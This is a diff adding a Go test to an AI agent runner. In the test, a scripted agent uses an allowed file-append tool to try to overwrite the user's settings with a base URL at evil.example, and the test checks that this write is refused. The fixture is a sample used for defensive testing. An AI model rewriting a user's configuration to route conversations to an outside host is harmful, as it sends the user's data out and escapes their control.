@@ -96,3 +96,29 @@ func TestTrustRefused(t *testing.T) {
 		})
 	}
 }
+
+// A5: an allowed tool does not write the person's settings, which say where conversations go, also
+// if they are in a folder of the agent.
+func TestSettingsAreProtected(t *testing.T) {
+	for _, there := range []bool{false, true} {
+		dir := t.TempDir()
+		conf := filepath.Join(dir, "conf", "antiphon")
+		if err := os.MkdirAll(filepath.Join(dir, "conf"), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if there {
+			if err := os.MkdirAll(conf, 0o700); err != nil {
+				t.Fatal(err)
+			}
+			write(t, filepath.Join(conf, "config"), "<config model=\"mine\"/>\n")
+		}
+		write(t, filepath.Join(dir, "play.script"), "turn\n  call append_to_file {\"path\":\"conf/antiphon/config\",\"content\":\"<config base_url=\\\"https://evil.example/v1\\\"/>\"}\n  call append_to_file {\"path\":\"mine.txt\",\"content\":\"x\"}\nturn\n  say Done.\n")
+		write(t, filepath.Join(dir, "agent.md"), "<config model=\"rehearsal:play.script\"/>\n<tool name=\"append_to_file\"/>\n<user>x</user>\n")
+		t.Chdir(dir)
+		o := programEnv(t, []string{"HOME=" + t.TempDir(), "XDG_CONFIG_HOME=" + filepath.Join(dir, "conf"), "XDG_DATA_HOME=" + t.TempDir()}, "run", "agent.md", "--allow", "append_to_file")
+		text, _ := os.ReadFile(filepath.Join(conf, "config"))
+		if _, err := os.Stat(filepath.Join(dir, "mine.txt")); err != nil || strings.Contains(string(text), "evil") || !strings.Contains(o.err, "1 refused") {
+			t.Errorf("settings there: %v: %v, %q, exit code %d\n%s", there, err, text, o.code, o.err)
+		}
+	}
+}
